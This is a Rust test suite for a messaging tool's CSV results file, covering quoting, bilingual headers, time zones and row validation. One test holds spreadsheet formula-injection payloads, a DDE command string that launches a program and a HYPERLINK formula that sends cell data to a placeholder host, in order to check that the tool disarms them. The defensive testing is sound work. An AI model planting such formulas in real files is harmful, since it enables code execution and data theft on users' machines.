//! The results file: the audience and what became of it, for spreadsheets.

use std::fs;

use jiff::Timestamp;

use crate::support::{Platform, World, openid};

const ENGLISH: &str = "send_status,send_errcode,send_errmsg,send_advice,send_attempts,send_finished_at,send_latency_ms,send_rid";
const CHINESE: &str = "发送状态,错误码,错误信息,处理建议,尝试次数,完成时间,耗时毫秒,请求编号";

/// An audience with everything that people put into cells, in an order of columns of their own.
fn unusual() -> World {
    let world = World::new();
    world.text_campaign("Hello {{name}}", "");
    let cells = [
        "\"a, b\"",
        "\"say \"\"hi\"\"\"",
        "\"two\nlines\"",
        "=1+1",
        "+86 138",
        "-5",
        "@you",
        "姓名 😀",
        "  edge ",
    ];
    let mut csv = String::from("no,name,openid,\"note, more\"\r\n");
    for (index, cell) in cells.iter().enumerate() {
        csv.push_str(&format!("{index},{cell},{},n{index}\r\n", openid(index)));
    }
    world.file("audience.csv", csv);
    world
}

#[test]
fn the_file_is_what_the_contract_says_byte_by_byte() {
    let world = unusual();
    world.send(&Platform::new("")).exits(0);
    let text = world.read("spring.local.results.csv");
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
    let header = format!("no,name,openid,\"note, more\",{ENGLISH}\r\n");
    assert!(text.starts_with(&header), "{text}");
    assert!(text.ends_with("\r\n"));
    assert!(
        text.replace("\r\n", "").replace("two\nlines", "").find(['\r', '\n']).is_none(),
        "CRLF alone: {text}"
    );
    assert!(text.contains("\r\n2,\"two\nlines\","), "{text}");
    assert!(text.contains("\"say \"\"hi\"\"\""));
}

#[test]
fn the_audience_s_columns_are_unchanged_but_for_formulas() {
    let world = unusual();
    world.send(&Platform::new("")).exits(0);
    let rows = world.results();
    let names: Vec<&str> = rows.iter().filter_map(|row| row.get(1)).collect();
    let expected =
        ["a, b", "say \"hi\"", "two\nlines", "'=1+1", "'+86 138", "-5", "'@you", "姓名 😀", "  edge "];
    assert_eq!(names, expected);
    for (index, row) in rows.iter().enumerate() {
        let number = index.to_string();
        assert_eq!(row.get(0), Some(number.as_str()));
        assert_eq!(row.get(2), Some(openid(index).as_str()));
        assert_eq!(row.len(), 12);
        assert_eq!([row.get(4), row.get(5), row.get(8)], [Some("sent"), Some("0"), Some("1")]);
        let at = row.get(9).expect("a time");
        assert!(at.parse::<Timestamp>().is_ok() && at.contains('T'), "{at}");
        let offset = at.get(at.len() - 6..).expect("an offset");
        assert!(offset.starts_with(['+', '-']) && offset.as_bytes()[3] == b':', "{at}");
        assert!(row.get(10).is_some_and(|latency| latency.parse::<u64>().is_ok()));
    }
}

#[test]
fn a_faulty_openid_that_is_a_formula_is_disarmed_and_comes_back_as_it_was() {
    let world = World::with_recipients(1);
    world.edit("campaign.toml", "[message.text]", "invalid_rows = \"skip\"\n[message.text]");
    let rows = [
        ("=cmd|' /C calc'!A0".to_owned(), "'=cmd|' /C calc'!A0"),
        ("\"=HYPERLINK(\"\"http://x/?\"\"&A3)\"".to_owned(), "'=HYPERLINK(\"http://x/?\"&A3)"),
        ("@SUM(1)".to_owned(), "'@SUM(1)"),
        ("+1+1".to_owned(), "'+1+1"),
        (format!("-{}", openid(1)), "-oTEST00000000000000000000001"),
    ];
    let rows_of: Vec<String> = rows.iter().map(|(cell, _)| format!("{cell},x\n")).collect();
    world.file("audience.csv", world.read("audience.csv") + &rows_of.concat());
    world.send(&Platform::new("")).exits(0);
    let shown: Vec<String> = world.results().iter().map(|row| row[0].to_owned()).collect();
    let expected: Vec<&str> = rows.iter().map(|(_, shown)| *shown).collect();
    assert_eq!(shown[1..], expected);
    // As the next list its cells are what they were.
    std::fs::rename(world.path("spring.local.results.csv"), world.path("audience.csv")).expect("it is moved");
    let plan = world.run(&["plan", "campaign.toml", "--format", "json"]).exits(0).json();
    assert_eq!((&plan["rows"], &plan["invalid"]), (&6.into(), &4.into()), "{plan}");
}

#[test]
fn an_errmsg_that_is_a_formula_is_disarmed() {
    let world = World::with_recipients(1);
    world.send(&Platform::new("[[answers]]\ncode = 45015\nerrmsg = \"=HYPERLINK(1)\"")).exits(5);
    assert_eq!(world.results()[0].get(4), Some("'=HYPERLINK(1)"));
}

#[test]
fn every_status_has_its_word_in_both_languages() {
    let scenario = format!(
        "[[answers]]\ncode = 45015\nopenids = [\"{}\"]\n[[answers]]\ncode = -1\nopenids = [\"{}\"]\n\
         [[faults]]\nkind = \"garbage\"\nopenids = [\"{}\"]",
        openid(1),
        openid(2),
        openid(3)
    );
    let languages = [
        ("en", ENGLISH, ["sent", "refused", "failed", "unknown", "skipped", "unsent"]),
        ("zh-CN", CHINESE, ["已发送", "被拒绝", "失败", "结果未知", "已跳过", "未发送"]),
    ];
    for (language, titles, words) in languages {
        let world = World::with_recipients(4);
        let rows = world.read("audience.csv") + &format!("{},again\n{},last\n", openid(0), openid(9));
        world.file("audience.csv", rows);
        world.text_campaign("Hello {{name}}", &format!("retries = 0\n[results]\nlanguage = \"{language}\""));
        let send = ["send", "campaign.toml", "--yes", "--limit", "4"];
        world.run_at(&Platform::new(&scenario), &send);
        let header = world.read("spring.local.results.csv").lines().next().map(str::to_owned);
        assert_eq!(header, Some(format!("\u{feff}openid,name,{titles}")));
        let rows = world.results();
        let found: Vec<&str> = rows.iter().filter_map(|row| row.get(2)).collect();
        assert_eq!(found, words);
        // Whoever was not tried has no answer to show.
        assert_eq!(rows[5].iter().skip(3).collect::<Vec<_>>(), ["", "", "", "0", "", "", ""]);
        assert!(rows[4].get(5).is_some_and(|advice| !advice.is_empty()), "why it was skipped");
    }
}

#[test]
fn deleting_the_results_loses_nothing() {
    let world = unusual();
    world.send(&Platform::new(
        "[[answers]]\ncode = 45015\nshare = \"40%\"\n[[faults]]\nkind = \"garbage\"\nmessages = 2",
    ));
    let path = world.path("spring.local.results.csv");
    let before = fs::read(&path).expect("the results");
    fs::remove_file(&path).expect("no results");
    world.run(&["results", "campaign.toml"]).exits(0);
    assert!(fs::read(&path).expect("the results") == before, "the same bytes");
    world.run(&["results", "campaign.toml", "-o", "other.csv"]).exits(0);
    assert!(fs::read(world.path("other.local.csv")).expect("the results") == before, "the same bytes");
}

#[test]
fn results_are_a_valid_audience_and_do_not_grow() {
    for language in ["en", "zh-CN"] {
        let world = World::with_recipients(5);
        let platform = Platform::new("");
        world.text_campaign("Hello {{name}}", &format!("[results]\nlanguage = \"{language}\""));
        world.run_at(&platform, &["send", "campaign.toml", "--yes", "--limit", "3"]).exits(7);
        let first = world.read("spring.local.results.csv");
        world.edit("campaign.toml", "audience.csv", "spring.local.results.csv");
        world.edit("campaign.toml", "language", "file = \"second.csv\"\nlanguage");
        let plan = world.run(&["plan", "campaign.toml", "--format", "json"]).exits(0).json();
        assert_eq!(
            (&plan["planned"], &plan["diagnostics"]),
            (&5.into(), &serde_json::json!([])),
            "{language}"
        );
        assert_eq!(world.send(&platform).exits(0).counts(), "5 sent", "{language}");
        assert_eq!(platform.ledger().totals().requests, 5);
        let second = world.read("second.local.csv");
        assert_eq!(first.lines().next(), second.lines().next(), "{language}: eight columns, not sixteen");
    }
}

#[test]
fn openids_are_masked_in_results_only_when_somebody_says_so() {
    let (world, platform) = (World::with_recipients(1), Platform::new(""));
    let mut send = world.command_at(&platform, &["send", "campaign.toml", "--yes"]);
    assert!(send.env("CI", "true").output().is_ok_and(|output| output.status.success()));
    assert_eq!(world.results()[0].get(0), Some(openid(0).as_str()));
    world.run(&["results", "campaign.toml", "--mask-openid", "on"]).exits(0);
    assert_ne!(world.results()[0].get(0), Some(openid(0).as_str()));
}

#[test]
fn times_are_those_of_the_audience_wherever_the_computer_stands() {
    let (world, platform) = (World::with_recipients(2), Platform::new(""));
    world.send(&platform).exits(0);
    let written = |zone: &str| {
        let mut results = world.command(&["results", "campaign.toml"]);
        assert!(results.env("TZ", zone).status().expect("the binary runs").success());
        world.results()
    };
    let here = written("America/New_York");
    assert_eq!(here, written("Asia/Tokyo"));
    assert!(here.iter().all(|row| row.get(7).is_some_and(|time| time.ends_with("+08:00"))), "{here:?}");
}

#[test]
fn a_faulty_row_says_which_cell_is_wrong_and_what() {
    let world = World::new();
    world.text_campaign("{{name}} {{number points}}", "[audience.columns.name]\nmax_chars = 3\n");
    world.edit("campaign.toml", "audience.csv\"", "audience.csv\"\ninvalid_rows = \"skip\"");
    let people = ["Ann,5", "Barbara,5", "Eve,many", "Bob,#N/A", "Zoe"];
    let rows: String =
        people.iter().enumerate().map(|(index, person)| format!("{},{person}\n", openid(index))).collect();
    world.file("audience.csv", format!("openid,name,points\n{rows}x y,Tim,5\n"));
    world.send(&Platform::new("")).exits(0);
    let rows = world.results();
    let advice: Vec<&str> = rows.iter().map(|row| row.get(6).expect("a column of advice")).collect();
    assert_eq!(rows[1].get(5), Some("invalid"));
    for (row, begins) in [
        (1, "B3: A cell is longer than its rule allows. So the row was skipped."),
        (2, "C4: A template could not be filled from a row. So"),
        (3, "C5: A cell holds an error value such as `#N/A`. So"),
        (4, "A row has more or fewer cells than the first line. So"),
        (5, "A7: An openid has a character that no openid has. So"),
    ] {
        assert!(advice[row].starts_with(begins), "{row}: {}", advice[row]);
    }
    assert_eq!(advice[0], "");
}
